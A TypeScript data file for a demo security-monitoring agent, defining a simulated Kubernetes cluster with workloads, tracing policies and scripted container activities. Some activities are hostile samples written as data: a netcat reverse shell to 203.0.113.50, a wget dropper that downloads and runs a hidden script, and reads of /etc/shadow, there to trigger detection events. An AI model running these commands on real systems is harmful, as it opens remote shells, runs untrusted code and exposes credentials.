@@ -1,0 +1,491 @@
+/*
+ * The made-up cluster the demo agent simulates: namespaces, workloads, images, and the
+ * activities (shell sessions and the tools they run) that happen inside containers.
+ * All names, images and commands here are ours and illustrative; IPs use documentation
+ * and private ranges.
+ */
+
+export type WorkloadKind = "Deployment" | "DaemonSet" | "StatefulSet";
+
+export type ExitSpec = { status: number } | { signal: "SIGKILL" | "SIGTERM" };
+
+/** Something a running tool does that a tracing policy reports. */
+export type Effect =
+  | { kind: "file"; fn: "security_file_permission" | "fd_install"; path: string; write?: boolean }
+  | { kind: "connect"; daddr: string; dport: number }
+  | { kind: "setuid"; uid: number }
+  | { kind: "lsm"; hook: "file_open" | "bprm_check_security"; path: string }
+  | { kind: "ptrace"; targetPid: number }
+  | { kind: "readline" };
+
+export interface ToolRun {
+  binary: string;
+  args: string;
+  effects: Effect[];
+  exit: ExitSpec;
+}
+
+export interface Activity {
+  name: string;
+  /** `/bin/sh -c <shell>` wraps the tools; absent: the tools run directly under the shim. */
+  shell?: string;
+  tools: ToolRun[];
+  /** Exit of the shell; defaults to the last tool's status. */
+  shellExit?: ExitSpec;
+  /** Run the tools as this uid instead of the container's. */
+  uid?: number;
+}
+
+export interface ContainerSpec {
+  name: string;
+  image: string;
+  cwd: string;
+  uid: number;
+  activities: string[];
+}
+
+export interface WorkloadSpec {
+  namespace: string;
+  name: string;
+  kind: WorkloadKind;
+  replicas: number;
+  labels: Record<string, string>;
+  privileged?: boolean;
+  containers: ContainerSpec[];
+}
+
+const ok: ExitSpec = { status: 0 };
+
+export const ACTIVITIES: Activity[] = [
+  {
+    name: "healthcheck",
+    shell: "curl -sf http://127.0.0.1:8080/healthz",
+    tools: [
+      {
+        binary: "/usr/bin/curl",
+        args: "-sf http://127.0.0.1:8080/healthz",
+        effects: [{ kind: "connect", daddr: "127.0.0.1", dport: 8080 }],
+        exit: ok,
+      },
+    ],
+  },
+  {
+    name: "read-shadow",
+    shell: "cat /etc/shadow | head -n 3",
+    tools: [
+      {
+        binary: "/bin/cat",
+        args: "/etc/shadow",
+        effects: [
+          { kind: "lsm", hook: "file_open", path: "/etc/shadow" },
+          { kind: "file", fn: "security_file_permission", path: "/etc/shadow" },
+        ],
+        exit: ok,
+      },
+      { binary: "/usr/bin/head", args: "-n 3", effects: [], exit: ok },
+    ],
+  },
+  {
+    name: "list-config",
+    shell: "ls -la /etc/nginx/conf.d && cat /etc/passwd",
+    tools: [
+      { binary: "/bin/ls", args: "-la /etc/nginx/conf.d", effects: [], exit: ok },
+      {
+        binary: "/bin/cat",
+        args: "/etc/passwd",
+        effects: [{ kind: "file", fn: "fd_install", path: "/etc/passwd" }],
+        exit: ok,
+      },
+    ],
+  },
+  {
+    name: "crawl-job",
+    tools: [
+      {
+        binary: "/usr/local/bin/python3",
+        args: "/app/crawl.py --source https://jobs.example.com --out /app/data/out.json",
+        effects: [
+          { kind: "connect", daddr: "93.184.215.14", dport: 443 },
+          { kind: "file", fn: "fd_install", path: "/app/data/out.json", write: true },
+        ],
+        exit: ok,
+      },
+    ],
+  },
+  {
+    name: "psql-missing",
+    shell: "psql -h postgres-0.postgres -U app -c 'select 1'",
+    tools: [],
+    shellExit: { status: 127 },
+  },
+  {
+    name: "psql-query",
+    shell: "psql -h postgres.payments.svc -U payments -c 'select count(*) from charges'",
+    tools: [
+      {
+        binary: "/usr/bin/psql",
+        args: '-h postgres.payments.svc -U payments -c "select count(*) from charges"',
+        effects: [{ kind: "connect", daddr: "10.96.41.7", dport: 5432 }],
+        exit: ok,
+      },
+    ],
+  },
+  {
+    name: "reverse-shell",
+    shell: "nc 203.0.113.50 4444 -e /bin/sh",
+    tools: [
+      {
+        binary: "/usr/bin/nc",
+        args: "203.0.113.50 4444 -e /bin/sh",
+        effects: [
+          { kind: "lsm", hook: "bprm_check_security", path: "/usr/bin/nc" },
+          { kind: "connect", daddr: "203.0.113.50", dport: 4444 },
+        ],
+        exit: { signal: "SIGKILL" },
+      },
+    ],
+  },
+  {
+    name: "sleeper",
+    shell: "sleep 3600",
+    tools: [{ binary: "/bin/sleep", args: "3600", effects: [], exit: { signal: "SIGTERM" } }],
+    shellExit: { signal: "SIGTERM" },
+  },
+  {
+    name: "sudo-id",
+    shell: "sudo -n id",
+    uid: 1000,
+    tools: [
+      {
+        binary: "/usr/bin/sudo",
+        args: "-n id",
+        effects: [{ kind: "setuid", uid: 0 }],
+        exit: ok,
+      },
+      { binary: "/usr/bin/id", args: "", effects: [], exit: ok },
+    ],
+  },
+  {
+    name: "su-postgres",
+    shell: "su postgres -c 'pg_isready -q'",
+    tools: [
+      {
+        binary: "/bin/su",
+        args: 'postgres -c "pg_isready -q"',
+        effects: [{ kind: "setuid", uid: 999 }],
+        exit: { status: 1 },
+      },
+    ],
+  },
+  {
+    name: "strace-attach",
+    tools: [
+      {
+        binary: "/usr/bin/strace",
+        args: "-f -p 1",
+        effects: [{ kind: "ptrace", targetPid: 1 }],
+        exit: { signal: "SIGTERM" },
+      },
+    ],
+  },
+  {
+    name: "interactive-bash",
+    tools: [
+      {
+        binary: "/bin/bash",
+        args: "",
+        effects: [
+          { kind: "readline" },
+          { kind: "readline" },
+          { kind: "file", fn: "security_file_permission", path: "/etc/passwd" },
+          { kind: "readline" },
+        ],
+        exit: ok,
+      },
+    ],
+  },
+  {
+    name: "dropper",
+    shell: "wget -qO /tmp/.x http://198.51.100.7/x.sh && chmod +x /tmp/.x && /tmp/.x",
+    tools: [
+      {
+        binary: "/usr/bin/wget",
+        args: "-qO /tmp/.x http://198.51.100.7/x.sh",
+        effects: [
+          { kind: "connect", daddr: "198.51.100.7", dport: 80 },
+          { kind: "file", fn: "fd_install", path: "/tmp/.x", write: true },
+        ],
+        exit: ok,
+      },
+      { binary: "/bin/chmod", args: "+x /tmp/.x", effects: [], exit: ok },
+      {
+        binary: "/tmp/.x",
+        args: "",
+        effects: [{ kind: "lsm", hook: "bprm_check_security", path: "/tmp/.x" }],
+        exit: { status: 1 },
+      },
+    ],
+  },
+  {
+    name: "redis-ping",
+    shell: "redis-cli -h redis ping",
+    tools: [
+      {
+        binary: "/usr/local/bin/redis-cli",
+        args: "-h redis ping",
+        effects: [{ kind: "connect", daddr: "10.96.12.30", dport: 6379 }],
+        exit: ok,
+      },
+    ],
+  },
+];
+
+/** Host activities run under the kubelet, outside any pod (namespace ""). */
+export const HOST_ACTIVITIES: Activity[] = [
+  {
+    name: "kubelet-iptables",
+    tools: [
+      {
+        binary: "/usr/sbin/iptables",
+        args: "-w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle",
+        effects: [],
+        exit: ok,
+      },
+    ],
+  },
+  {
+    name: "kubelet-mount",
+    tools: [
+      {
+        binary: "/usr/bin/mount",
+        args: "-t tmpfs tmpfs /var/lib/kubelet/pods/volumes/kubernetes.io~projected/kube-api-access",
+        effects: [],
+        exit: ok,
+      },
+    ],
+  },
+];
+
+const nginx = "docker.io/library/nginx:1.27.3";
+const common = ["healthcheck", "list-config", "read-shadow", "sleeper", "interactive-bash"];
+
+export const WORKLOADS: WorkloadSpec[] = [
+  {
+    namespace: "default",
+    name: "frontend",
+    kind: "Deployment",
+    replicas: 2,
+    labels: { app: "frontend", "app.kubernetes.io/name": "frontend", tier: "web" },
+    containers: [
+      { name: "nginx", image: nginx, cwd: "/", uid: 0, activities: [...common, "dropper"] },
+    ],
+  },
+  {
+    namespace: "default",
+    name: "netshoot",
+    kind: "Deployment",
+    replicas: 1,
+    privileged: true,
+    labels: { app: "netshoot", tier: "debug" },
+    containers: [
+      {
+        name: "netshoot",
+        image: "docker.io/nicolaka/netshoot:v0.13",
+        cwd: "/root",
+        uid: 0,
+        activities: ["reverse-shell", "strace-attach", "interactive-bash", "read-shadow"],
+      },
+    ],
+  },
+  {
+    namespace: "kube-system",
+    name: "coredns",
+    kind: "Deployment",
+    replicas: 2,
+    labels: { "k8s-app": "kube-dns", "app.kubernetes.io/name": "coredns", tier: "control-plane" },
+    containers: [
+      {
+        name: "coredns",
+        image: "registry.k8s.io/coredns/coredns:v1.11.3",
+        cwd: "/",
+        uid: 65532,
+        activities: ["healthcheck"],
+      },
+    ],
+  },
+  {
+    namespace: "kube-system",
+    name: "kube-proxy",
+    kind: "DaemonSet",
+    replicas: 1,
+    labels: { "k8s-app": "kube-proxy", tier: "node" },
+    containers: [
+      {
+        name: "kube-proxy",
+        image: "registry.k8s.io/kube-proxy:v1.31.2",
+        cwd: "/",
+        uid: 0,
+        activities: ["list-config"],
+      },
+    ],
+  },
+  {
+    namespace: "tenant-jobs",
+    name: "elasticsearch",
+    kind: "Deployment",
+    replicas: 1,
+    labels: { app: "elasticsearch", "app.kubernetes.io/name": "elasticsearch", tier: "data" },
+    containers: [
+      {
+        name: "elasticsearch",
+        image: "docker.elastic.co/elasticsearch/elasticsearch:8.15.3",
+        cwd: "/usr/share/elasticsearch/",
+        uid: 1000,
+        activities: ["healthcheck", "read-shadow", "sudo-id", "interactive-bash"],
+      },
+    ],
+  },
+  {
+    namespace: "tenant-jobs",
+    name: "crawler",
+    kind: "Deployment",
+    replicas: 2,
+    labels: { app: "crawler", "app.kubernetes.io/name": "crawler", tier: "worker" },
+    containers: [
+      {
+        name: "crawler",
+        image: "ghcr.io/example/jobs-crawler:2.4.1",
+        cwd: "/app",
+        uid: 1000,
+        activities: ["crawl-job", "psql-missing", "sleeper"],
+      },
+    ],
+  },
+  {
+    namespace: "payments",
+    name: "payments-api",
+    kind: "Deployment",
+    replicas: 3,
+    labels: {
+      app: "payments-api",
+      "app.kubernetes.io/name": "payments-api",
+      tier: "backend",
+      "pci-scope": "true",
+    },
+    containers: [
+      {
+        name: "api",
+        image: "ghcr.io/example/payments-api:1.9.0",
+        cwd: "/srv/app",
+        uid: 1000,
+        activities: ["psql-query", "redis-ping", "healthcheck", "sudo-id"],
+      },
+    ],
+  },
+  {
+    namespace: "payments",
+    name: "postgres",
+    kind: "StatefulSet",
+    replicas: 1,
+    labels: {
+      app: "postgres",
+      "app.kubernetes.io/name": "postgresql",
+      tier: "database",
+      "pci-scope": "true",
+    },
+    containers: [
+      {
+        name: "postgres",
+        image: "docker.io/library/postgres:16.4",
+        cwd: "/var/lib/postgresql/data",
+        uid: 0,
+        activities: ["su-postgres", "psql-query", "read-shadow"],
+      },
+    ],
+  },
+  {
+    namespace: "payments",
+    name: "redis",
+    kind: "StatefulSet",
+    replicas: 1,
+    labels: { app: "redis", "app.kubernetes.io/name": "redis", tier: "cache" },
+    containers: [
+      {
+        name: "redis",
+        image: "docker.io/library/redis:7.4.1",
+        cwd: "/data",
+        uid: 999,
+        activities: ["redis-ping"],
+      },
+    ],
+  },
+  {
+    namespace: "monitoring",
+    name: "node-exporter",
+    kind: "DaemonSet",
+    replicas: 1,
+    labels: { app: "node-exporter", "app.kubernetes.io/name": "node-exporter", tier: "monitoring" },
+    containers: [
+      {
+        name: "node-exporter",
+        image: "quay.io/prometheus/node-exporter:v1.8.2",
+        cwd: "/",
+        uid: 65534,
+        activities: ["healthcheck", "list-config"],
+      },
+    ],
+  },
+  {
+    namespace: "monitoring",
+    name: "prometheus",
+    kind: "StatefulSet",
+    replicas: 1,
+    labels: { app: "prometheus", "app.kubernetes.io/name": "prometheus", tier: "monitoring" },
+    containers: [
+      {
+        name: "prometheus",
+        image: "quay.io/prometheus/prometheus:v2.55.0",
+        cwd: "/prometheus",
+        uid: 65534,
+        activities: ["healthcheck", "sleeper"],
+      },
+    ],
+  },
+];
+
+export const DEFAULT_NODES = ["kind-control-plane", "kind-worker", "kind-worker2"];
+
+/** Tracing policies the simulated agent reports as loaded; names match the events. */
+export const POLICIES = [
+  {
+    name: "file-monitoring",
+    sensors: ["generic_kprobe"],
+    hooks: ["security_file_permission", "fd_install"],
+  },
+  { name: "tcp-connect", sensors: ["generic_kprobe"], hooks: ["tcp_connect"] },
+  { name: "privileges-raise", sensors: ["generic_kprobe"], hooks: ["__x64_sys_setuid"] },
+  { name: "file-open-lsm", sensors: ["generic_lsm"], hooks: ["file_open", "bprm_check_security"] },
+  {
+    name: "ptrace-tracepoint",
+    sensors: ["generic_tracepoint"],
+    hooks: ["syscalls/sys_enter_ptrace"],
+  },
+  { name: "bash-readline", sensors: ["generic_uprobe"], hooks: ["/bin/bash:readline"] },
+] as const;
+
+export const CONTAINER_CAPS = [
+  "CAP_CHOWN",
+  "DAC_OVERRIDE",
+  "CAP_FOWNER",
+  "CAP_FSETID",
+  "CAP_KILL",
+  "CAP_SETGID",
+  "CAP_SETUID",
+  "CAP_SETPCAP",
+  "CAP_NET_BIND_SERVICE",
+  "CAP_NET_RAW",
+  "CAP_SYS_CHROOT",
+  "CAP_MKNOD",
+  "CAP_AUDIT_WRITE",
+  "CAP_SETFCAP",
+] as const;
